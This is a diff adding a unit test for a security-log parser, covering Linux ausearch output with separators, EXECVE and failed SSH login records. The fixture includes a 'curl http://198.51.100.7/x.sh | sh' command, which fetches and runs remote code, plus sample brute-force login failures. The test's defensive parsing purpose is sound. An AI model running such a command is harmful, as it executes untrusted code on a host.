@@ -620,6 +620,34 @@ describe('Linux audit.log', () => {
   });
 });
 
+describe("ausearch's output (-i: interpreted, local times; without: time-> lines)", () => {
+  it('the date in audit(…) is the time, `----` and `time->` lines are separators, a failed USER_AUTH is a failed login, an EXECVE keeps its arguments', () => {
+    const r = parseText(
+      [
+        '----',
+        'type=EXECVE msg=audit(12/01/2026 09:00:00.123:456) : argc=3 a0=bash a1=-c a2=curl http://198.51.100.7/x.sh | sh',
+        'type=SYSCALL msg=audit(12/01/2026 09:00:00.123:456) : arch=x86_64 syscall=execve success=yes exit=0 ppid=1000 pid=1001 auid=bob uid=bob comm=bash exe=/usr/bin/bash key=exec',
+        '----',
+        "type=USER_AUTH msg=audit(12/01/2026 09:00:05.000:460) : pid=2000 uid=root auid=unset ses=unset msg='op=PAM:authentication grantors=? acct=root exe=/usr/sbin/sshd hostname=203.0.113.5 addr=203.0.113.5 terminal=ssh res=failed'",
+        '----',
+        'time->Tue Dec  1 09:00:06 2026',
+        "type=USER_AUTH msg=audit(1796115606.000:461): pid=2001 uid=0 msg='op=PAM:authentication acct=\"admin\" exe=\"/usr/sbin/sshd\" addr=203.0.113.5 terminal=ssh res=failed'",
+      ].join('\n') + '\n',
+      { tz: 'UTC' },
+    );
+    expect(r.quarantined).toEqual([]);
+    // the separators are not records: four records, four events
+    expect([r.records, r.rows.length]).toEqual([4, 4]);
+    expect(r.rows.map((e) => [e.ts, e.src_ip, e.user, e.action])).toEqual([
+      [Date.UTC(2026, 11, 1, 9, 0, 0, 123), null, null, null],
+      [Date.UTC(2026, 11, 1, 9, 0, 0, 123), null, null, null],
+      [Date.UTC(2026, 11, 1, 9, 0, 5), '203.0.113.5', 'root', 'auth_failure'],
+      [Date.UTC(2026, 11, 1, 9, 0, 6), '203.0.113.5', 'admin', 'auth_failure'],
+    ]);
+    expect(JSON.parse(r.rows[0]!.extra as string)).toMatchObject({ type: 'EXECVE', a2: 'curl http://198.51.100.7/x.sh | sh' });
+  });
+});
+
 describe('Palo Alto PAN-OS syslog', () => {
   it('TRAFFIC and THREAT records are connections dated by their own full date; SYSTEM and GlobalProtect auth failures are failed logins', () => {
     const r = parseText(
